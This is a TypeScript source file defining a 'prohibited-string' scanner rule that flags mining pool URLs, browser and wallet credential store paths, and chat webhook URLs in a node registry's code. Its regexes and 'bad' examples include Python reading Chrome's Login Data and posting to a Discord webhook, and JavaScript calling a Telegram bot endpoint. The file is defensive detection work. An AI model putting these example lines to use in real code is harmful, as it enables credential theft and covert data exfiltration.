import { defineRule } from '../rule.js';

/** What no node has a reason to carry: each with the words a finding shows. */
const PROHIBITED: [RegExp, string][] = [
  [/stratum\+(?:tcp|ssl|tls):\/\//i, 'a cryptocurrency mining pool URL'],
  [
    /\b(?:xmrig|nanopool\.org|supportxmr\.com|moneroocean\.stream|minexmr\.com|2miners\.com|f2pool\.com|hashvault\.pro|unmineable\.com)\b/i,
    'a cryptocurrency miner or mining pool',
  ],
  [
    /\bLogin Data\b|\bkey[34]\.db\b|\blogins\.json\b|\bcookies\.sqlite\b|Local Storage[\\/]+leveldb|\bwallet\.dat\b/i,
    "a browser's or wallet's credential store",
  ],
  [
    /discord(?:app)?\.com\/api\/webhooks\/|api\.telegram\.org\/bot|hooks\.slack\.com\/services\//i,
    'a chat webhook (a way to send data out)',
  ],
];

export default defineRule({
  id: 'prohibited-string',
  severity: 'critical',
  description:
    'A string no node has a reason to carry: mining pool URLs, browser credential store paths, chat webhook URLs used to send data out. Strings are matched on purpose, docstrings included.',
  hint: 'remove it; if it is a false alarm, tell the registry admins what the string is for',
  requires: { text: new RegExp(PROHIBITED.map(([pattern]) => pattern.source).join('|'), 'i') },
  patterns: {
    python: '((string) @finding)',
    javascript: '((string) @finding) ((template_string) @finding)',
  },
  check: ({ finding }) => {
    const text = finding.text;
    const found = PROHIBITED.find(([pattern]) => pattern.test(text));
    return found ? `${found[1]}: ${text.slice(0, 80)}` : undefined;
  },
  examples: {
    python: {
      bad: `import os, requests

POOL = "stratum+tcp://pool.example.invalid:3333"  # finding
CHROME = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")  # finding

def report(text):
    requests.post("https://discord.com/api/webhooks/123/abc", json={"content": text})  # finding
`,
      good: `import requests
# never "stratum+tcp://pool.example.invalid:3333" or discord.com/api/webhooks/

def report(text):
    return requests.post("https://example.invalid/api/report", json={"content": text})
`,
    },
    javascript: {
      bad: `const hook = "https://discord.com/api/webhooks/123/abc"; // finding
fetch(\`https://api.telegram.org/bot\${token}/sendMessage\`); // finding
`,
      good: `// "https://discord.com/api/webhooks/123/abc"
const docs = "https://example.invalid/docs";
`,
    },
  },
});
